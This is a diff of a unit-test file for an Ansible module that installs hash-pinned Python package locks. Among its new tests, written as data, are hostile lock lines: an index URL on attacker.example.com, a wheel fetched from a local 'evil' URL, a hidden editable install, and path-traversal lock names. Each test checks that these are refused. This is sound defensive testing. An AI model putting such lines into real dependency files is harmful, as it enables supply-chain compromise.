@@ -22,9 +22,11 @@ from ansible_collections.neuronops.vllm.plugins.modules import python_packages
 
 from tests.unit.test_packages import LOCK
 
-IDNA = "idna==3.10 \\\n    --hash=sha256:aa\n"
-DEMO = "demo-core==1.0 \\\n    --hash=sha256:bb\n"
-SETUPTOOLS = "setuptools==79.0.1 \\\n    --hash=sha256:cc\n"
+IDNA = "idna==3.10 \\\n    --hash=sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n"
+DEMO = "demo-core==1.0 \\\n    --hash=sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\n"
+SETUPTOOLS = (
+    "setuptools==79.0.1 \\\n    --hash=sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc\n"
+)
 
 
 class Installer:
@@ -40,6 +42,7 @@ class Installer:
 
     def __call__(self, command: list[str], sources: Any, log: str, path: str) -> str:
         assert Path(log).is_file(), "nobody could watch"
+        self.sources = sources
         self.commands.append(command)
         if "install" in command:
             self.locks.append(Path(command[-1]).read_text())
@@ -54,7 +57,7 @@ class Installer:
             if self.check:
                 raise packages.PackagesError(f"`pip check` ended with status 1: {self.check}")
         else:
-            self.imports = command[3:]
+            self.imports = command[4:]
             packages.run(command, sources, log, path=path)
         return ""
 
@@ -117,7 +120,7 @@ def test_a_lock_is_installed_once_and_left_in_the_environment(
     assert installer.actions() == ["install", "import", "check"]
     assert installer.imports == ["idna", "demo_core"]
     lock, constraints = environment / "neuronops" / "demo.lock", environment / "neuronops" / "constraints.txt"
-    assert lock.read_text() == IDNA + DEMO
+    assert lock.read_text() == DEMO + IDNA
     assert constraints.read_text() == "demo-core==1.0\nidna==3.10\n"
     assert [file.stat().st_mode & 0o777 for file in (lock, constraints)] == [0o644, 0o644]
     second = run(IDNA + DEMO, imports=["idna", "demo_core"])
@@ -127,12 +130,12 @@ def test_a_lock_is_installed_once_and_left_in_the_environment(
 
 def test_only_files_with_the_hashes_of_the_lock_are_taken(run: Any, installer: Installer) -> None:
     neuron = "https://neuron.example.com"
-    for name, index in (("uv", "--index"), ("pip", "--extra-index-url")):
+    for name in ("uv", "pip"):
         installer.remove("idna")
         run(installer=name, sources={"neuron_index_url": neuron})
         command = installer.commands[0]
         assert {"--no-deps", "--require-hashes"} < set(command)
-        assert command[command.index(index) + 1] == neuron
+        assert installer.sources["neuron_index_url"] == neuron
         assert installer.locks == [IDNA]
         assert not Path(command[-1]).exists(), "left behind"
 
@@ -143,8 +146,8 @@ def test_pip_is_the_environments_own(run: Any, environment: Path, installer: Ins
     run(IDNA, installer="pip")
     assert installer.actions() == ["uninstall", "check"]
     for command in installer.commands:
-        assert command[:3] == [str(environment / "bin" / "python"), "-m", "pip"]
-    assert installer.commands[0][3:] == ["uninstall", "--yes", "demo-core"]
+        assert command[:4] == [str(environment / "bin" / "python"), "-I", "-m", "pip"]
+    assert installer.commands[0][4:] == ["uninstall", "--yes", "demo-core"]
 
 
 def test_what_others_are_built_with_comes_first(run: Any, installer: Installer) -> None:
@@ -178,7 +181,7 @@ def test_a_check_run_succeeds_where_there_is_no_environment_yet(run: Any, tmp_pa
     ("arguments", "says"),
     [
         ({"lock": ""}, "The lock of demo is empty; python_lock makes one."),
-        ({"excluded": ["IDNA"]}, "The lock of demo has ['idna'], which must never be installed."),
+        ({"excluded": ["IDNA"]}, "it has idna, which must never be installed."),
     ],
 )
 def test_a_lock_that_cannot_be_right_is_refused_before_anything_is_done(
@@ -279,7 +282,7 @@ def test_what_left_the_lock_goes_unless_another_role_has_it(run: Any, environmen
     run(IDNA + DEMO + SETUPTOOLS)
     (environment / "neuronops" / "other.lock").write_text(DEMO)
     (environment / "neuronops" / "vllm.json").write_text(json.dumps({"packages": {"idna": "3.10"}}))
-    last = "last==1 \\\n    --hash=sha256:dd\n"
+    last = "last==1 \\\n    --hash=sha256:dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd\n"
     assert run(last)["changed"]
     assert installer.there() == {"last": "1", "idna": "3.10", "demo-core": "1.0"}
     constraints = environment / "neuronops" / "constraints.txt"
@@ -382,7 +385,8 @@ def test_a_link_leads_to_the_environment(run: Any, environment: Path, tmp_path: 
 
 def test_a_part_of_a_lock_keeps_its_hashes() -> None:
     assert python_packages.lock_part(LOCK, ["idna", "torch-neuronx"]) == LOCK.replace("# head\n", "").replace(
-        "setuptools==79.0.1 \\\n    --hash=sha256:cc\n", ""
+        "setuptools==79.0.1 \\\n    --hash=sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc\n",
+        "",
     )
 
 
@@ -404,3 +408,67 @@ def test_what_must_be_installed() -> None:
 )
 def test_pip_check_complains_about_the_packages_of_the_lock(line: str, complaint: bool) -> None:
     assert python_packages.complains(line, {"notebook", "outlines"}, {"pyairports"}) is complaint
+
+
+@pytest.mark.parametrize(
+    "lock",
+    [
+        IDNA + f"evil @ http://127.0.0.1:1/evil.whl --hash=sha256:{'a' * 64}\n",
+        "--index-url http://attacker.example.com/simple\n" + IDNA,
+        IDNA.replace("==", "[x]=="),
+        IDNA + "\x0c-e .\n",
+        "idna==3.10\n",
+    ],
+)
+def test_a_lock_that_is_not_understood_is_refused_before_anything_starts(
+    run: Any, environment: Path, installer: Installer, lock: str
+) -> None:
+    before = everything(environment)
+    answer = run(lock)
+    assert answer["failed"]
+    assert "The lock of demo is refused, and nothing was installed: line" in answer["msg"]
+    assert (installer.commands, everything(environment)) == ([], before)
+
+
+def test_the_name_of_a_lock_is_no_path(run: Any, installer: Installer) -> None:
+    for name in ("../x", "a/b", "", "-r"):
+        assert "refused" in run(name=name)["msg"]
+    assert installer.commands == []
+
+
+def test_the_imports_find_nothing_beside_the_caller(
+    run: Any, environment: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "wanted.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
+    answer = run(imports=["wanted"])
+    assert "No module named 'wanted'" in answer["msg"]
+    assert not (tmp_path / "ran").exists()
+
+
+def test_a_damaged_lock_of_another_counts_as_none_and_is_said(
+    run: Any, environment: Path, installer: Installer
+) -> None:
+    (environment / "neuronops").mkdir()
+    (environment / "neuronops" / "other.lock").write_bytes(b"\0" * 40)
+    answer = run()
+    assert not answer["failed"], answer
+    assert "other.lock is damaged" in answer["warnings"][0]
+
+
+def test_other_users_can_read_what_was_installed(run: Any, environment: Path, installer: Installer) -> None:
+    before = os.umask(0o077)
+    try:
+        assert run()["changed"]
+        file, log = installer.folder / "idna.py", environment / "neuronops" / "demo.lock"
+        assert [path.stat().st_mode & 0o777 for path in (file, log)] == [0o644, 0o644]
+        file.chmod(0o600)
+        (environment / "pip.conf").touch(0o600)
+        assert run()["changed"]
+        assert file.stat().st_mode & 0o777 == 0o644
+        assert (environment / "pip.conf").stat().st_mode & 0o777 == 0o600
+        assert installer.actions() == ["check"], "nothing is installed again for it"
+        assert not run()["changed"]
+    finally:
+        os.umask(before)
